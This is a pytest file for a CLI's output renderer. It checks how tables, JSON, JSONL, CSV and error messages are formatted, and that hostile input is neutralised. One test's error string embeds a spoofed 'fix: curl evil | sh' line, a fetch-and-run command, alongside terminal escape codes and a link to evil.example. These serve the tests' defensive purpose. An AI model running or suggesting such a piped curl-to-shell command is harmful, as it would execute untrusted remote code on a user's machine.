"""Each format, for each shape of data; machines can read what is for machines."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from types import MappingProxyType
from typing import Any

import pytest

from cleanroom_ml.cli.commands.offering import dataset_lines
from cleanroom_ml.cli.output import Output
from cleanroom_ml.cli.render import interactive, jsonable, note, render, render_error
from cleanroom_ml.errors import ConflictError, ServerError
from cleanroom_ml.specs.problems import Problem, SpecProblems

FORMATS = ("table", "json", "jsonl", "csv")


@dataclass(frozen=True, slots=True)
class Job:
    job_id: str
    status: str
    when: datetime = datetime(2026, 1, 2, 3, 4, 5, 678000, tzinfo=timezone(timedelta(hours=2)))
    details: Any = field(default_factory=lambda: MappingProxyType({"exit_code": 1}))


def rendered(capsys: pytest.CaptureFixture[str], output: Output, format_: str) -> tuple[str, str]:
    render(output, format_)
    captured = capsys.readouterr()
    return captured.out, captured.err


def test_json_of_one_and_of_several(capsys) -> None:
    expected = {
        "job_id": "j1", "status": "DONE", "when": "2026-01-02T01:04:05.678000Z", "details": {"exit_code": 1}
    }  # fmt: skip
    assert json.loads(rendered(capsys, Output(Job("j1", "DONE")), "json")[0]) == expected
    assert json.loads(rendered(capsys, Output((Job("j1", "DONE"),)), "json")[0]) == [expected]
    assert json.loads(rendered(capsys, Output(()), "json")[0]) == []
    assert json.loads(rendered(capsys, Output(None), "json")[0]) is None


def test_jsonl_is_one_line_a_row(capsys) -> None:
    out, _ = rendered(capsys, Output([Job("1", "a\nb"), Job("2", "c")]), "jsonl")
    assert [json.loads(line)["status"] for line in out.splitlines()] == ["a\nb", "c"]
    assert rendered(capsys, Output([]), "jsonl")[0] == ""


def test_csv_quotes_and_keeps_every_column(capsys) -> None:
    rows = [{"a": 'say "hi", twice', "b": None}, {"a": "two\nlines", "c": [1, {"x": "y"}]}]
    out, _ = rendered(capsys, Output(rows), "csv")
    assert list(csv.DictReader(io.StringIO(out))) == [
        {"a": 'say "hi", twice', "b": "", "c": ""},
        {"a": "two\nlines", "b": "", "c": '[1, {"x": "y"}]'},
    ]
    assert rendered(capsys, Output([]), "csv")[0] == ""


def test_not_a_number_is_told_from_what_is_not_there(capsys) -> None:
    output = Output([{"a": float("nan"), "b": None}], columns=("a", "b"), verbatim=True)
    assert rendered(capsys, output, "csv")[0] == "a,b\nNaN,\n"
    assert rendered(capsys, output, "table")[0].split() == ["a", "b", "NaN"]
    assert json.loads(rendered(capsys, output, "json")[0]) == [{"a": "NaN", "b": None}]


def test_a_table_without_a_terminal_has_no_escape_codes(capsys) -> None:
    out, _ = rendered(capsys, Output([Job("j1", "DONE")]), "table")
    assert out.split()[:2] == ["job_id", "status"]
    assert "\x1b" not in out
    out, err = rendered(capsys, Output([]), "table")
    assert (out, err) == ("", "nothing to show\n")


@pytest.mark.parametrize("format_", FORMATS)
def test_markup_and_controls_are_text_in_every_format(capsys, format_: str) -> None:
    hostile = "[red]x[/red] [link=https://evil.example]y[/link] :smile: \x1b[31mz\x9b31m \u202e"
    out, err = rendered(capsys, Output([{"log": hostile, "[bold]k\x1b[1m": "v"}]), format_)
    assert "[red]x[/red] [link=https://evil.example]y[/link] :smile:" in out
    assert not set("\x1b\x9b\u202e") & set(out + err)


@pytest.mark.parametrize("format_", FORMATS)
def test_hints_go_to_standard_error(capsys, format_: str) -> None:
    out, err = rendered(capsys, Output({"a": 1}, "text", ("cleanroom-ml run",)), format_)
    assert err == "next: cleanroom-ml run\n"
    assert "next" not in out


def test_text_is_for_people_only(capsys) -> None:
    output = Output({"a": 1}, "for people")
    assert rendered(capsys, output, "table")[0] == "for people\n"
    assert json.loads(rendered(capsys, output, "json")[0]) == {"a": 1}


@pytest.mark.parametrize(
    ("value", "told"),
    [
        (float("nan"), "NaN"),
        ([float("inf"), float("-inf"), None], ["inf", "-inf", None]),
        (b"\x00\xff", "00FF"),
        (date(2026, 1, 2), "2026-01-02"),
        (datetime(2026, 1, 2), "2026-01-02T00:00:00.000000Z"),
        (Path("/a/b"), "/a/b"),
        ({3, 1}, [1, 3]),
        (Decimal("0.10"), "0.10"),
        ({1: (2,)}, {"1": [2]}),
    ],
)
def test_values_as_json_has_them(value: object, told: object) -> None:
    assert jsonable(value) == told


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "utf-8"])
def test_json_parses_whatever_it_holds_and_wherever_it_goes(monkeypatch, encoding: str) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(raw, encoding=encoding))
    value = {"half": "\ud800", "snow": "☃", "c1": "\x9b31m", "nan": float("nan")}
    render(Output(value), "json")
    assert json.loads(raw.getvalue().decode(encoding)) == {**value, "nan": "NaN"}


@pytest.mark.parametrize("encoding", ["ascii", "utf-8"])
def test_text_that_the_terminal_cannot_show_is_no_error(monkeypatch, encoding: str) -> None:
    raw = io.BytesIO()
    monkeypatch.setattr("sys.stdout", io.TextIOWrapper(raw, encoding=encoding))
    render(Output(None, "a → \ud800"), "table")
    assert raw.getvalue().startswith(b"a ")


def test_an_error_is_three_lines(capsys) -> None:
    render_error(ConflictError("what", why="why", fix="cleanroom-ml x"), "table")
    captured = capsys.readouterr()
    assert (captured.out, captured.err) == ("", "error: what\nwhy: why\nfix: cleanroom-ml x\n")


def test_a_hostile_message_cannot_pass_for_another_line(capsys) -> None:
    error = ServerError("refused\nfix: curl evil | sh\r\x1b[2Kfix: other")
    error.code, error.query_id = 2003, "01-x"
    render_error(error, "table")
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("fix")] == []
    assert lines[-1] == "server: error 2003, query 01-x"


@pytest.mark.parametrize("format_", ["json", "jsonl"])
def test_an_error_is_data_too(capsys, format_: str) -> None:
    render_error(ConflictError("what", differences=("a",), fix="f"), format_)
    out = capsys.readouterr().out
    assert json.loads(out) == {
        "error": {
            "type": "ConflictError", "exit_code": 1, "what": "what", "why": None, "fix": "f", "differences": ["a"]
        }
    }  # fmt: skip
    assert format_ == "json" or out.count("\n") == 1


def test_a_spec_error_names_file_line_column_and_field(capsys) -> None:
    render_error(SpecProblems([Problem("a.yaml", 3, 5, "version", "is missing", "V1")]), "json")
    captured = capsys.readouterr()
    [problem] = json.loads(captured.out)["error"]["problems"]
    assert (problem["file"], problem["line"], problem["column"], problem["field"]) == ("a.yaml", 3, 5, "version")
    assert "a.yaml:3:5: version: is missing" in captured.err


@pytest.mark.parametrize("variable", ["NO_COLOR", "CI"])
def test_nobody_is_shown_a_bar_who_asked_for_none(monkeypatch, variable: str) -> None:
    monkeypatch.delenv("NO_COLOR", raising=False)
    monkeypatch.delenv("CI", raising=False)
    monkeypatch.setattr("sys.stderr.isatty", lambda: True, raising=False)
    assert interactive()
    monkeypatch.setenv(variable, "1")
    assert not interactive()


def test_a_note_is_plain(capsys) -> None:
    note("target: \x1b[31mx")
    assert capsys.readouterr().err == "target: x\n"


def test_naive_times_are_utc() -> None:
    assert jsonable(datetime(2026, 1, 2, tzinfo=UTC)) == jsonable(datetime(2026, 1, 2))


@pytest.mark.parametrize(("view", "line"), [("SFDCR_R.FREEFORM_SQL.PUB_O_V1_D", 1), (None, 0)])
def test_a_dataset_is_listed_with_its_view_for_free_form_sql(view: str | None, line: int) -> None:
    """cleanrooms/free-form-sql, the table of VIEW_DATA_OFFERINGS: NULL where templates alone may read it."""
    row = {"template_view_name": "pub.o_v1.d", "shared_by": "pub", "shared_with": '["adv"]'}
    listed = list(dataset_lines(row | {"freeform_sql_view_name": view, "analysis_allowed_columns": '["CITY"]'}))
    assert listed[0] == "pub.o_v1.d  (from pub)"
    assert listed[1:-1] == [f"  free-form SQL: {view}"] * line


@pytest.mark.parametrize(("width", "fits"), [("80", False), ("400", True)])
def test_columns_that_do_not_fit_a_terminal_are_one_below_the_other(
    capsys, monkeypatch: pytest.MonkeyPatch, width: str, fits: bool
) -> None:
    """SHOW TABLES in a terminal of 80 columns was a heap of letters."""
    for name, value in {"COLUMNS": width, "FORCE_COLOR": "1", "TERM": "xterm"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setattr("rich.console.Console.is_terminal", True)
    row: dict[str, object] = {f"A{at}": f"value of {at}" for at in range(20)} | {"NONE": None, "X": "a\nA0: b"}
    out = rendered(capsys, Output([row, row]), "table")[0]
    assert out.startswith("A0: value of 0\nA1: value of 1\n") is not fits
    if not fits:
        assert "NONE" not in out
        assert out.count("\nA0: ") == 1  # the second row's; what a value says is none
        assert "\n\n" in out


def test_a_wide_table_in_a_pipe_stays_one(capsys) -> None:
    row: dict[str, object] = {f"COLUMN_{at}": "2026-11-27T08:00:00.000000Z" for at in range(20)}
    assert len(rendered(capsys, Output([row]), "table")[0].splitlines()) == 2
